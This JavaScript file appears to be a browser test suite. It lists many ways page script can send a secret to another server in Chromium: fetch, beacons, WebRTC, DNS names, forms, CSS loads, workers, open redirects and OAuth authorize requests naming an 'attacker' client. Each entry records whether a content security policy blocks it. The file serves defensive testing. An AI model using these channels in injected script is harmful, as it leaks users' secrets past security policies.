/**
 * The ways in which script of a page can send data to another server, and what is expected of them in Chromium. The ways of
 * a group behave the same, and share a row of the table in docs/exits.md.
 *
 * @typedef {object} Target What a way gets. It runs in the page, with the functions of `own_servers.mjs`.
 * @property {string} url An address of the other server that contains the secret.
 * @property {string} socket The same for a WebSocket.
 * @property {string} sameSite The same with the app's host, for a feature that stays within a site.
 * @property {number} port The other server's port. With `by`, only this attempt uses it.
 * @property {string} host A host name that contains the secret.
 * @property {string} secret
 * @property {string} provider The provider's origin.
 * @property {string} query The query with which the app requests authorization.
 *
 * @typedef {object} Way
 * @property {(target: Target) => unknown} run
 * @property {'tcp' | 'udp'} [by] The kind of port that this attempt has for itself. Other ways put the secret into the
 *   address of a request, or into a name that the browser resolves.
 * @property {'shared' | 'own' | 'profile'} [page] The page in which the way runs: by default a page that it shares with
 *   others, `own` if the way changes its page, and `profile` if the way needs a whole Chromium with a profile.
 * @property {boolean} [crashes] True if Chromium ends the page's process instead of an error.
 *
 * @typedef {object} Group
 * @property {string} title
 * @property {{ policy: boolean, list: boolean }} expected True if the other server is reached: from a page with the
 *   generated policy, and from a page with the policy and the list.
 * @property {string} [closes] What closes the ways that the list leaves open.
 * @property {Record<string, Way | Way['run']>} ways
 */

const BY_POLICY = { policy: false, list: false }
const BY_LIST = { policy: true, list: false }
const OPEN = { policy: true, list: true }

const alone = (run) => ({ run, page: 'own' })
const inProfile = (run) => ({ run, page: 'profile' })
const tcp = (run) => ({ run, by: 'tcp' })
const udp = (run) => ({ run, by: 'udp' })

const webrtc = {
  'a STUN server': udp(({ port }) => gather([{ urls: `stun:127.0.0.1:${port}` }])),
  'a TURN server over TCP': tcp(({ port, secret }) =>
    gather([{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: secret, credential: 'any' }]),
  ),
  'a remote candidate': udp(async ({ port }) => {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()]
    here.createDataChannel('exit')
    await here.setLocalDescription()
    await there.setRemoteDescription(here.localDescription)
    await there.setLocalDescription()
    await here.setRemoteDescription(there.localDescription)
    const candidate = `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`
    await here.addIceCandidate({ candidate, sdpMLineIndex: 0 })
  }),
  // With the list, Chromium ends the page's process as soon as the frame constructs an `RTCPeerConnection`.
  'a STUN server, from an `about:blank` frame': {
    ...udp(({ port }) =>
      gather([{ urls: `stun:127.0.0.1:${port}` }], add('iframe').contentWindow.RTCPeerConnection),
    ),
    page: 'own',
    crashes: true,
  },
}

const names = {
  'the name of a STUN server': inProfile(({ host }) => gather([{ urls: `stun:${host}:9` }])),
  '`<link rel=dns-prefetch>`': inProfile(({ host }) =>
    add('link', { rel: 'dns-prefetch', href: `//${host}` }),
  ),
  'the name in `<link rel=preconnect>`': inProfile(({ host }) =>
    add('link', { rel: 'preconnect', href: `//${host}` }),
  ),
  'the name in `rpId` of WebAuthn': inProfile(({ host }) => {
    const publicKey = { challenge: new Uint8Array(16), rpId: host }
    void navigator.credentials.get({ publicKey }).catch(() => {})
  }),
  'the connection of `<link rel=preconnect>`': {
    ...tcp(({ port }) => add('link', { rel: 'preconnect', href: `//127.0.0.1:${port}` })),
    page: 'profile',
  },
}

const navigations = {
  '`location`': alone(({ url }) => location.assign(url)),
  '`navigation.navigate()`': alone(({ url }) => void navigation.navigate(url)),
  '`<meta http-equiv=refresh>`': alone(({ url }) =>
    add('meta', { 'http-equiv': 'refresh', content: `0;url=${url}` }),
  ),
  '`<meta http-equiv=refresh>` by `document.write()`': alone(({ url }) => {
    document.write(`<meta http-equiv="refresh" content="0;url=${url}">`)
    document.close()
  }),
  '`<a>`': alone(({ url }) => add('a', { href: url }).click()),
  '`<a target=_blank>`': alone(({ url }) => add('a', { href: url, target: '_blank' }).click()),
  '`<a download>`': alone(({ url }) => add('a', { href: url, download: '' }).click()),
}

const windows = {
  '`open()`': alone(({ url }) => void open(url)),
  '`open()` with `noopener`': alone(({ url }) => void open(url, '_blank', 'noopener')),
  "`open('')` and then its `location`": alone(({ url }) => open('').location.assign(url)),
}

const provider = {
  'its logout, which redirects to any address': alone(({ url, provider }) =>
    location.assign(`${provider}/logout?to=${url}`),
  ),
  'an authorization request of the attacker’s client': alone(({ url, provider, secret }) =>
    location.assign(
      `${provider}/authorize?response_type=code&client_id=attacker&redirect_uri=${url}&state=${secret}`,
    ),
  ),
}

const files = {
  '`location` of a window with a file without headers': alone(({ url }) =>
    useWindow((opened) => opened.location.assign(url)),
  ),
  '`fetch()` of a window with a file without headers': alone(({ url }) =>
    useWindow((opened) => opened.fetch(url)),
  ),
}

const forwarder = {
  'script of a file without headers, opened with `noopener`': alone(
    ({ url }) => void open(`/forwarder#${url}`, '_blank', 'noopener'),
  ),
}

const redirect = {
  '`location` to an open redirect of the app': alone(({ url }) => location.assign(`/redirect?to=${url}`)),
}

const repeated = {
  'an authorization request that names the app’s client, and then the attacker’s': alone(
    ({ url, provider, query, secret }) =>
      location.assign(
        `${provider}/authorize?${query}&client_id=attacker&redirect_uri=${url}&state=${secret}`,
      ),
  ),
}

const requests = {
  '`fetch()`': ({ url }) => void fetch(url),
  '`fetch()` with `no-cors`': ({ url }) => void fetch(url, { mode: 'no-cors' }),
  '`fetch()` with `keepalive`, of a page that the user leaves': alone(({ url }) => {
    void fetch(url, { keepalive: true })
    location.assign('/callback')
  }),
  '`fetchLater()`': ({ url }) => void fetchLater(url, { activateAfter: 0 }),
  '`XMLHttpRequest`': ({ url }) => {
    const request = new XMLHttpRequest()
    request.open('GET', url)
    request.send()
  },
  '`sendBeacon()`': ({ url }) => navigator.sendBeacon(url),
  '`EventSource`': ({ url }) => void new EventSource(url),
  '`WebSocket`': ({ socket }) => void new WebSocket(socket),
  '`WebSocketStream`': ({ socket }) => void new WebSocketStream(socket),
  '`WebTransport`': udp(({ port }) => void new WebTransport(`https://127.0.0.1:${port}/`)),
  '`Cache.add()`': ({ url }) => void caches.open('exits').then((cache) => cache.add(url)),
  "`open('')` and then its `fetch()`": alone(({ url }) => void open('').fetch(url)),
  '`<a ping>`': ({ url }) => add('a', { href: '#here', ping: url }).click(),
}

const links = {
  '`prefetch`': ({ url }) => add('link', { rel: 'prefetch', href: url }),
  '`preload` of an image': ({ url }) => add('link', { rel: 'preload', as: 'image', href: url }),
  '`preload` for `fetch()`': ({ url }) => add('link', { rel: 'preload', as: 'fetch', href: url }),
  '`modulepreload`': ({ url }) => add('link', { rel: 'modulepreload', href: url }),
  '`compression-dictionary`': ({ url }) => add('link', { rel: 'compression-dictionary', href: url }),
  '`stylesheet`': ({ url }) => add('link', { rel: 'stylesheet', href: url }),
  '`icon`': inProfile(({ url }) => add('link', { rel: 'icon', href: url }, document.head)),
}

const speculations = {
  'prefetch by speculation rules': ({ url }) => addRules({ prefetch: [{ urls: [url] }] }),
  'prerender by speculation rules': ({ sameSite }) => addRules({ prerender: [{ urls: [sameSite] }] }),
}

const images = {
  '`<img>`': ({ url }) => add('img', { src: url }),
  '`<img srcset>`': ({ url }) => add('img', { srcset: `${url} 1x` }),
  '`<input type=image>`': ({ url }) => add('input', { type: 'image', src: url }),
  '`<body background>`': ({ url }) => document.body.setAttribute('background', url),
  'SVG `<image>`': ({ url }) => addSvg('image', { href: url }),
  'SVG `<feImage>`': ({ url }) => {
    const filter = addSvg('filter', { id: 'filter' })
    filter.append(document.createElementNS(filter.namespaceURI, 'feImage'))
    filter.firstChild.setAttribute('href', url)
    addStyled('filter', 'url(#filter)')
  },
}

const styles = {
  '`background`': ({ url }) => addStyled('background', `url(${url})`),
  '`content`': ({ url }) => addStyled('content', `url(${url})`),
  '`cursor`': ({ url }) => addStyled('cursor', `url(${url}), auto`),
  '`mask`': ({ url }) => addStyled('mask', `url(${url})`),
  '`clip-path`': ({ url }) => addStyled('clip-path', `url(${url}#clip)`),
  '`fill` of SVG': ({ url }) => addSvg('path', { d: 'M0 0H9V9', fill: `url(${url}#fill)` }),
  '`@import`': ({ url }) => {
    add('style').textContent = `@import url(${url});`
  },
  '`FontFace`': ({ url }) => void new FontFace('exit', `url(${url})`).load(),
  'a constructed style sheet': ({ url }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`#constructed { background: url(${url}) }`)
    document.adoptedStyleSheets.push(sheet)
    add('p', { id: 'constructed' })
  },
}

const media = {
  '`<video>`': ({ url }) => add('video', { src: url, preload: 'auto' }),
  '`<video poster>`': ({ url }) => add('video', { poster: url }),
  '`<audio>`': ({ url }) => add('audio', { src: url, preload: 'auto' }),
  '`<track>`': ({ url }) => {
    const video = add('video', { crossorigin: '' })
    add('track', { src: url, default: '' }, video).track.mode = 'showing'
  },
}

const frames = {
  '`<object>`': ({ url }) => add('object', { data: url }),
  '`<embed>`': ({ url }) => add('embed', { src: url }),
  '`<iframe>`': ({ url }) => add('iframe', { src: url }),
  '`location` of a frame': ({ url }) => add('iframe').contentWindow.location.assign(url),
  'an image in a frame of `srcdoc`': ({ url }) => add('iframe', { srcdoc: `<img src="${url}">` }),
  'an image in a frame of `blob:`': ({ url }) =>
    add('iframe', { src: blobUrl(`<img src="${url}">`, 'text/html') }),
  'an image in a frame of `data:`': ({ url }) => add('iframe', { src: `data:text/html,<img src="${url}">` }),
}

const forms = {
  'a form with GET': alone(({ url }) => add('form', { action: url }).submit()),
  'a form with POST': alone(({ url }) => add('form', { action: url, method: 'post' }).submit()),
  'a form with `target=_blank`': alone(({ url }) =>
    add('form', { action: url, target: '_blank', method: 'post' }).submit(),
  ),
  'a form to an open redirect of the app': alone(({ url }) =>
    add('form', { action: `/redirect?to=${url}`, method: 'post' }).submit(),
  ),
}

const scripts = {
  '`<script>`': ({ url }) => add('script', { src: url }),
  '`import()`': ({ url }) => void import(url),
  'a worker from `blob:`': ({ url }) => void new Worker(blobUrl(`fetch('${url}')`, 'text/javascript')),
  'a worker from `data:`': ({ url }) => void new Worker(`data:text/javascript,fetch('${url}')`),
  'a shared worker from `blob:`': ({ url }) =>
    void new SharedWorker(blobUrl(`fetch('${url}')`, 'text/javascript')),
  'a service worker from a file of the app': ({ url }) =>
    void navigator.serviceWorker.register(`/service-worker.js?to=${url}`, { scope: '/elsewhere/' }),
  'a paint worklet': ({ url }) => void CSS.paintWorklet.addModule(url),
  'an audio worklet': ({ url }) => void new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(url),
}

const redirected = {
  '`fetch()` of an open redirect of the app': ({ url }) => void fetch(`/redirect?to=${url}`),
  '`<img>` of an open redirect of the app': ({ url }) => add('img', { src: `/redirect?to=${url}` }),
  // With the page's `no-referrer`, Chromium would not follow the redirect.
  'prefetch of an open redirect of the app': ({ url }) =>
    addRules({ prefetch: [{ urls: [`/redirect?to=${url}`], referrer_policy: 'strict-origin' }] }),
}

const dialogs = {
  FedCM: ({ url }) => {
    const providers = [{ configURL: url, clientId: 'any' }]
    void navigator.credentials.get({ identity: { providers } })
  },
  '`PaymentRequest`': inProfile(({ sameSite }) => {
    const total = { label: 'Total', amount: { currency: 'EUR', value: '1' } }
    void new PaymentRequest([{ supportedMethods: sameSite }], { total }).canMakePayment()
  }),
}

/** @type {Group[]} */
export const GROUPS = [
  { title: 'WebRTC', expected: BY_LIST, ways: webrtc },
  { title: 'Name resolution and connections', expected: BY_LIST, ways: names },
  { title: 'Navigations and links', expected: BY_LIST, ways: navigations },
  { title: 'Windows', expected: BY_LIST, ways: windows },
  { title: 'The provider', expected: BY_LIST, ways: provider },
  { title: 'Files without headers', expected: BY_LIST, ways: files },
  {
    title: 'Files without headers',
    expected: OPEN,
    closes: 'The headers on every response of the app, also on files and error pages',
    ways: forwarder,
  },
  { title: 'Redirects', expected: OPEN, closes: 'No open redirect', ways: redirect },
  {
    title: 'The provider',
    expected: OPEN,
    closes: 'A provider that refuses repeated parameters (RFC 6749 3.1)',
    ways: repeated,
  },
  { title: 'Requests', expected: BY_POLICY, ways: requests },
  { title: 'Links in the head', expected: BY_POLICY, ways: links },
  { title: 'Speculation rules', expected: BY_POLICY, ways: speculations },
  { title: 'Images', expected: BY_POLICY, ways: images },
  { title: 'Styles', expected: BY_POLICY, ways: styles },
  { title: 'Media', expected: BY_POLICY, ways: media },
  { title: 'Frames', expected: BY_POLICY, ways: frames },
  { title: 'Forms', expected: BY_POLICY, ways: forms },
  { title: 'Scripts and workers', expected: BY_POLICY, ways: scripts },
  { title: 'Redirects', expected: BY_POLICY, ways: redirected },
  { title: 'Dialogs of the browser', expected: BY_POLICY, ways: dialogs },
]

/**
 * All ways, with their names and what is expected of them.
 *
 * @type {(Way & { name: string, expected: Group['expected'] })[]}
 */
export const WAYS = GROUPS.flatMap(({ title, expected, ways }) =>
  Object.entries(ways).map(([name, way]) => ({
    name: `${title}, ${name}`,
    expected,
    page: 'shared',
    ...(typeof way === 'function' ? { run: way } : way),
  })),
)
